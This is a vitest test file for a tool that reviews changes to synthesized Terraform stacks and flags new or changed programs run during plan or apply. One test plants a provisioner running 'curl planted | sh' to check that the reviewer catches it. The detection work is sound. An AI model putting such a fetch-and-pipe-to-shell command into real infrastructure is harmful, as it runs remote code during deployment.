import { expect, test } from "vitest";
import { reviewOf } from "../review.ts";
import { synthesizedText } from "../test-stacks.ts";
import { changeOfDocuments } from "./document-change.ts";
import { newPrograms } from "./programs.ts";
import { parseDocument } from "./synthesized-document.ts";

const base = JSON.parse(synthesizedText("single-gpu"));
const read = (stack: unknown) => parseDocument(JSON.stringify(stack), "cdk.tf.json");
const exec = (command: string) => [{ "local-exec": { command } }];
const gate = "embed_ready_healthy_BA7364D8";

function programs(edit: (stack: typeof base) => void): readonly string[] {
  const stack = structuredClone(base);
  edit(stack);
  return newPrograms(read(base), read(stack));
}

test("reports nothing for unchanged programs and for a new stack", () => {
  expect(programs(() => {})).toEqual([]);
  expect(newPrograms(undefined, read(base))).toEqual([]);
});

test("reports a resource that runs a program without the command", () => {
  const found = programs((stack) => {
    stack.resource.null_resource = { n: { provisioner: exec("curl planted | sh") } };
  });
  expect(found).toEqual(["n: new program run during the apply (local-exec)."]);
});

test("a new program needs attention", () => {
  const stack = structuredClone(base);
  stack.data = { external: { e: { program: ["x"] } } };
  const { verdict } = reviewOf([changeOfDocuments("s", read(base), read(stack))]);
  expect(verdict.level).toBe("attention");
});

test("reports a changed program", () => {
  const found = programs((stack) => {
    stack.resource.terraform_data[gate].provisioner = exec("true");
  });
  expect(found).toEqual([
    "embed/ready/healthy: changed program run during the apply (local-exec).",
  ]);
});

test("reports several changed programs in one sentence", () => {
  const found = programs((stack) => {
    for (const name of ["b", "a"]) {
      stack.resource.null_resource = {
        ...stack.resource.null_resource,
        [name]: { provisioner: exec(name) },
      };
    }
  });
  expect(found).toEqual(["a, b: new program run during the apply (local-exec)."]);
});

test("reports a data source that runs a program", () => {
  const found = programs((stack) => {
    stack.data = { external: { e: { program: ["sh", "-c", "x"] } } };
  });
  expect(found).toEqual(["external e: new program or request run during the plan."]);
});
